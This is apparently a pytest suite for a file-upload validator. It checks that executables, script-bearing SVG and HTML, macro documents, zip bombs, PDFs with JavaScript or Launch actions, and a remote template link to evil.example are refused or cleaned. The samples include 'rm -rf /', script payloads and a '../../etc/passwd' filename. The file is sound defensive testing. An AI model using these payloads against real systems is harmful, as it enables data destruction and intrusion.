"""Files that are received, and those made to harm."""

import io

import pikepdf
import pytest
from PIL import Image
from sqlalchemy import select

from inclusion_app.kernel.db import db
from inclusion_app.kernel.errors import DomainError
from inclusion_app.kernel.file_kinds import DOCX, JPEG, MP3, MP4, ODT, PDF, PNG, WEBP, media_type_of
from inclusion_app.kernel.files import StoredFile
from inclusion_app.resources.rules.files import MAX_BYTES, check_received, encoded_again, read_office
from inclusion_app.resources.services.files import receive_file
from tests.cast import Cast
from tests.resources import hostile

SOUND = b"\xff\xfb\x90\x00" + b"\x00" * 413 + b"\xff\xfb\x90\x00" + b"\x00" * 413
FILM = b"\x00\x00\x00\x18ftypisom" + b"\x00" * 100


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (hostile.pdf(), PDF),
        (hostile.picture("PNG"), PNG),
        (hostile.picture("JPEG"), JPEG),
        (hostile.picture("WEBP"), WEBP),
        (hostile.docx(), DOCX),
        (hostile.odt(), ODT),
        (SOUND, MP3),
        (b"ID3\x03\x00", MP3),
        (FILM, MP4),
        (b"MZ\x90\x00", None),
        (b"<svg onload=alert(1)>", None),
        (hostile.archive({"a.txt": "x"}), None),
        (b"PK\x03\x04 broken", None),
        (b"\x00\x00\x00\x18ftypheic", None),
        (b"\xff\xfb", None),
        (b"", None),
    ],
)
def test_a_kind_is_known_by_its_content(content: bytes, kind: str | None) -> None:
    assert media_type_of(content) == kind


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"", "vide"),
        (b"%PDF-" + b"0" * MAX_BYTES, "20\u00a0Mo"),
        (b"MZ\x90\x00" + b"\x00" * 100, "programme"),
        (b"#!/bin/sh\nrm -rf /", "programme"),
        (b'<?xml version="1.0"?><svg><script>alert(1)</script></svg>', "SVG"),
        (b"\xef\xbb\xbf <!DOCTYPE html><script>", "HTML"),
        (b"\xd0\xcf\x11\xe0", "ancien format"),
        (hostile.archive({"a.txt": "x"}), "dossier compressé"),
        (b"GIF89a", "GIF"),
        (b"\x00\x00\x00\x18ftypheic", "JPEG"),
        (b"bonjour", "PDF"),
    ],
)
def test_what_is_not_received_says_what_to_do(content: bytes, told: str) -> None:
    with pytest.raises(DomainError) as refused:
        check_received(content)
    assert refused.value.field == "file"
    assert told in str(refused.value)


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_a_picture_loses_what_it_hid(kind: str) -> None:
    again, _ = encoded_again(hostile.picture(kind) + b"<script>alert(1)</script>")
    assert b"script" not in again
    assert b"Secret camera" not in again
    assert Image.open(io.BytesIO(again)).size == (40, 30)


@pytest.mark.parametrize("mode", ["L", "P", "RGBA", "LA", "I;16"])
def test_pictures_of_every_mode(mode: str) -> None:
    buffer = io.BytesIO()
    Image.new(mode, (5000, 10)).save(buffer, "PNG")
    again, _ = encoded_again(buffer.getvalue())
    assert Image.open(io.BytesIO(again)).width == 4000


def test_pictures_refused() -> None:
    for content, told in (
        (hostile.huge_picture(), "40\u00a0millions"),
        (hostile.picture()[:60], "abîmée"),
        (b"x", "PNG"),
    ):
        with pytest.raises(DomainError, match=told):
            encoded_again(content)


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (hostile.docx(word__vbaProject_dot_bin=b"x"), "macros"),
        (hostile.odt(Basic__script_dot_xml="x"), "macros"),
        (hostile.docx(word__embeddings__oleObject1_dot_bin=b"x"), "autre fichier"),
        (hostile.docx(word__big_dot_xml=b"0" * 201_000_000), "gonfle"),
        (hostile.docx(word__x_dot_xml=b"x" * 100_000)[:-3000], "abîmé"),
        (
            hostile.docx(
                word___rels__settings_dot_xml_dot_rels='<Relationship Type="http://x/attachedTemplate" '
                'Target="http://evil.example/t.dotm" TargetMode="External"/>'
            ),
            "modèle",
        ),
        (hostile.archive({"[Content_Types].xml": "macroEnabled", "word/document.xml": ""}), "macros"),
    ],
)
def test_documents_refused(content: bytes, told: str) -> None:
    with pytest.raises(DomainError, match=told):
        read_office(content)


def test_a_lying_archive_is_counted_for_what_it_is() -> None:
    content = bytearray(hostile.docx(word__bomb_dot_xml=b"0" * 5_000_000))
    place = content.rindex((5_000_000).to_bytes(4, "little"))  # the size, in the directory at the end
    content[place : place + 4] = (10).to_bytes(4, "little")
    with pytest.raises(DomainError, match="abîmé"):
        read_office(bytes(content))


def test_the_words_of_documents_are_read(cast: Cast) -> None:
    for content, words in ((hostile.docx("Été &amp; hiver"), "Été"), (hostile.odt(), "Souris et clavier")):
        assert words in (receive_file(content, name="x", by=cast.nadia).file_text or "")


def test_a_link_in_a_document_is_nothing() -> None:
    relation = '<Relationship Type="http://x/hyperlink" Target="http://frame.example/frame" TargetMode="External"/>'
    assert "Mot de passe" in read_office(hostile.docx(word___rels__document_dot_xml_dot_rels=relation))


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (hostile.pdf(OpenAction=hostile.action("JavaScript")), "JavaScript"),
        (hostile.pdf(OpenAction=hostile.action("Launch")), "programme|autre fichier"),
        (hostile.pdf(AA=pikepdf.Dictionary(WC=hostile.action("JavaScript"))), "JavaScript"),
        (hostile.pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("x"))), "formulaire"),
        (hostile.pdf_with_file(), "autres fichiers"),
        (hostile.locked_pdf(), "mot de passe"),
        (b"%PDF-1.7 nothing", "abîmé"),
    ],
)
def test_pdf_refused(cast: Cast, content: bytes, told: str) -> None:
    with pytest.raises(DomainError, match=told):
        receive_file(content, name="x.pdf", by=cast.nadia)


def test_a_pdf_is_kept_as_sent_and_read(cast: Cast) -> None:
    content = hostile.pdf("Voir le dossier /JS et /Launch")
    kept = receive_file(content, name="../../etc/passwd", by=cast.nadia)
    assert "dossier /JS" in (kept.file_text or "")
    stored = db.session.scalars(select(StoredFile).where(StoredFile.id == kept.file_id)).one()
    assert (stored.bytes, stored.media_type) == (content, PDF)
